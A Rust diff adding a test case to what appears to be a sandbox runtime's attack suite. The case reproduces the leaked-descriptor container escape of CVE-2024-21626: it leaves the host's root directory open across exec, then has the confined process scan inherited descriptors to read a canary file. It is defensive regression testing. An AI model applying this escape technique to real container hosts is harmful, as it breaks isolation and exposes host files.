@@ -1,0 +1,33 @@
+//! A way out of the root directory that somebody has left open.
+
+use std::fs::File;
+use std::os::fd::AsRawFd;
+
+use nix::fcntl::{FcntlArg, FdFlag, fcntl};
+use process::{Error, Step};
+
+use crate::attack::attacker::{A_FILE, read};
+use crate::attack::{Attack, sys};
+
+pub const ATTACK: Attack = Attack {
+    name: "descriptor",
+    title: "use a forgotten descriptor",
+    tries: "the runtime was started with a directory of the host open, by accident. Look \
+            through the descriptors for one from which a host's file can be opened.",
+    why: "the process closes what it has inherited before it executes the command. runc \
+          forgot one in 2024, which was enough to leave any container.",
+    reference: "CVE-2024-21626, close_range(2)",
+    stopped_by: 0,
+    run: |target| {
+        let root = File::open("/").step(|| "open /")?;
+        // What is not closed on exec is what our children inherit.
+        fcntl(&root, FcntlArg::F_SETFD(FdFlag::empty())).step(|| "let / be inherited")?;
+        let said = target.attack::<&str>(&[], &[&root.as_raw_fd().to_string()])?;
+        Ok(said.has_read(target.secret, A_FILE))
+    },
+    inside: |_| {
+        let find = |fd| sys::open_from(fd, "canary").ok();
+        let canary = (3..1024).find_map(find).ok_or_else(|| Error::new("no such descriptor"))?;
+        read(File::from(canary))
+    },
+};
